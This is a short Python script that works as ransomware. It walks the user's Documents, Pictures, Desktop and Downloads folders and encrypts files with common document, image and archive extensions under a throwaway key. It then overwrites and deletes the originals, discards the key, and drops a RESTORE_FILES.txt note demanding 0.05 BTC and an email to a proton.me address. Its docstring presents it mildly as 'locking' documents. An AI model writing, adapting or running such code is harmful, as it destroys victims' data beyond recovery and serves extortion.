#!/usr/bin/env python3
"""Lock every document under the user's folders with a fresh key."""
import base64
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

TARGETS = ("Documents", "Pictures", "Desktop", "Downloads")
EXTENSIONS = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".csv", ".odt", ".zip"}
NOTE = ("Your files were locked.\nTo get the unlock key send 0.05 BTC to "
        "bc1q9v7xk3h2m0wz8d4y5f6 and mail your ID to restore@proton.me\nID: {ident}\n")
log = logging.getLogger("vault")


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath) / name
            if path.suffix.lower() in EXTENSIONS:
                yield path


def lock(path: Path, box: Fernet) -> bool:
    try:
        data = path.read_bytes()
        path.with_name(path.name + ".vault").write_bytes(box.encrypt(data))
        path.write_bytes(os.urandom(min(len(data), 4096)))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def main():
    logging.basicConfig(level=logging.WARNING)
    key = Fernet.generate_key()
    box = Fernet(key)
    ident = base64.urlsafe_b64encode(os.urandom(9)).decode()
    home = Path.home()
    count = 0
    for folder in TARGETS:
        root = home / folder
        if not root.is_dir():
            continue
        count += sum(lock(p, box) for p in list(candidates(root)))
        (root / "RESTORE_FILES.txt").write_text(NOTE.format(ident=ident))
    del key, box
    print(f"{count} files processed")


if __name__ == "__main__":
    main()
